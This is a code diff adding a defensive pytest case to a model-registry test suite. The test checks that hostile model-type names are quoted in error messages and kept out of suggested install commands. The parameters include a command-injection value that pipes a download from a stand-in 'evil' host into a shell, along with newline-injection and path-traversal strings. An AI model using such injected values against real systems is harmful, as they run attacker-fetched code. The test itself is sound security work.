@@ -487,3 +487,13 @@ def test_a_folder_that_was_not_there_is_seen_after_a_reset(
     reset_registry()
 
     assert registry().family("alpha").model_type == "alpha"
+
+
+@pytest.mark.parametrize("name", ["x; curl evil|sh #", "x\nhint: y", "../x", ""], ids=repr)
+def test_a_hostile_model_type_makes_no_command(world: Any, name: str) -> None:
+    """What config.json says is shown quoted, and never within a line to be typed."""
+    with pytest.raises(UnknownModelTypeError) as caught:
+        registry().family(name)
+
+    assert "pip" not in caught.value.hint
+    assert repr(name) in caught.value.message
